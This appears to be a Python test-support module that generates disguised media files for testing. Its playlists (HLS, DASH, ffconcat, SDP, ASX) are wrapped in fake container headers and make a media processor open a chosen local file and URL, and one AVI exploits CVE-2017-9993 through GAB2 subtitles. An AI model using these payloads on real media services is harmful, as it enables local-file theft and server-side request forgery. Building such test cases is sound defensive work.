"""Files that ask whoever opens them to open others: playlists, lists and descriptions with the looks of a video.

Each names a file of this machine and an address; ``{file}`` and ``{url}`` below.
"""

from __future__ import annotations

import struct
from collections.abc import Callable

from tests.support.mutants import seed

_HLS = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{file}\n#EXTINF:1,\n{url}\n#EXT-X-ENDLIST\n"
_MASTER = '#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="{file}"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{url}\n'
_ENCRYPTED = '#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\n#EXTINF:1,\n{file}\n#EXT-X-ENDLIST\n'
_CONCATENATED = (
    "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\nconcat:{url}|{file}\n#EXTINF:1,\nsubfile,,start,0,end,64,,:{file}\n"
)
_DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" '
    'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="1" bandwidth="1"><BaseURL>{file}</BaseURL></Representation>'
    '<Representation id="2" bandwidth="2"><BaseURL>{url}</BaseURL></Representation></AdaptationSet></Period></MPD>'
)
_FFCONCAT = "ffconcat version 1.0\nfile '{file}'\nfile '{url}'\n"
_SDP = (
    "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
    "m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\na=control:{url}\n"
)
_ASX = '<asx version="3.0"><entry><ref href="{url}"/><ref href="{file}"/></entry></asx>'
_RTSP_REDIRECT = "[Reference]\r\nRef1={url}\r\nRef2={file}\r\n"

_TEXTS = {
    "hls": _HLS,
    "hls_master": _MASTER,
    "hls_key": _ENCRYPTED,
    "hls_concat": _CONCATENATED,
    "dash": _DASH,
    "ffconcat": _FFCONCAT,
    "sdp": _SDP,
    "asx": _ASX,
    "reference": _RTSP_REDIRECT,
}

_FTYP = struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 512, b"mp42")
_EBML = bytes.fromhex("1a45dfa3")
_TS = b"\x47" + b"\x1f\xff\x10" + b"\xff" * 184

# What makes `core.container.sniff` believe in a container.
_MASKS: dict[str, Callable[[bytes], bytes]] = {
    "bare": lambda text: text,
    "as_mp4": lambda text: _FTYP + text,
    "as_matroska": lambda text: _EBML + text,
    "as_transport_stream": lambda text: _TS * 5 + text,
    "as_mp3": lambda text: b"ID3\x03\x00\x00\x00\x00\x00\x00\xff\xfb\x90\x00" + text,
    "as_ogg": lambda text: b"OggS" + text,
    "as_avi": lambda text: b"RIFF\xff\x00\x00\x00AVI " + text,
    "as_mpeg": lambda text: b"\x00\x00\x01\xba" + text,
    "as_flv": lambda text: b"FLV\x01" + text,
}


def disguises(file: str, url: str, port: int) -> dict[str, bytes]:
    """Every disguised file by its name. ``file`` and ``url`` are what they ask for, ``port`` is the address's."""
    texts = {name: text.replace("{port}", str(port)).format(file=file, url=url).encode() for name, text in _TEXTS.items()}
    made = {f"{name}_{mask}": put_on(text) for name, text in texts.items() for mask, put_on in _MASKS.items()}
    made |= {f"{name}_in_avi_subtitles": avi_with_subtitles(text) for name, text in texts.items()}
    made["mov_that_refers_elsewhere"] = refers_elsewhere(file)
    return made


def refers_elsewhere(file: str) -> bytes:
    """A QuickTime film whose samples are said to lie in another file."""
    body = seed("h264.mov")
    own = struct.pack(">I4sI", 12, b"url ", 1)
    if own not in body:
        own = struct.pack(">I4sI", 12, b"alis", 1)
    # Of the same length, so that no other box has to change: the flag that says "in this file" is taken away.
    changed = body.replace(own, own[:-4] + bytes(4))
    if changed == body:
        raise AssertionError("the film has no data reference to change")
    return changed + struct.pack(">I4s", 8 + len(file), b"free") + file.encode()


def avi_with_subtitles(text: bytes) -> bytes:
    """An AVI film with a subtitle stream whose "GAB2" packet is a text of the attacker's choice: ffmpeg opens it with whatever
    demuxer it looks like (CVE-2017-9993)."""
    gab2 = b"GAB2\x00" + struct.pack("<HI", 2, 2) + b"x\x00" + struct.pack("<HI", 4, len(text)) + text
    picture = bytes(16 * 16 * 3)
    streams = _stream(b"vids", _bitmap(16, 16)) + _stream(b"txts", b"")
    header = struct.pack("<14I", 66_666, 100_000, 0, 0x10, 2, 0, 2, 1000, 16, 16, 0, 0, 0, 0)
    headers = _list(b"hdrl", _chunk(b"avih", header) + streams)
    film = _chunk(b"01tx", gab2) + _chunk(b"00db", picture) * 2
    body = b"AVI " + headers + _list(b"movi", film)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _chunk(name: bytes, body: bytes) -> bytes:
    return name + struct.pack("<I", len(body)) + body + b"\x00" * (len(body) % 2)


def _list(kind: bytes, body: bytes) -> bytes:
    return _chunk(b"LIST", kind + body)


def _bitmap(width: int, height: int) -> bytes:
    return struct.pack("<IiiHH6I", 40, width, height, 1, 24, 0, width * height * 3, 0, 0, 0, 0)


def _stream(kind: bytes, form: bytes) -> bytes:
    handler = b"DIB " if kind == b"vids" else bytes(4)
    header = kind + handler + struct.pack("<IHHIIIIIIIIHHHH", 0, 0, 0, 0, 1, 15, 0, 2, 1000, 0xFFFF_FFFF, 0, 0, 0, 16, 16)
    return _list(b"strl", _chunk(b"strh", header) + _chunk(b"strf", form))
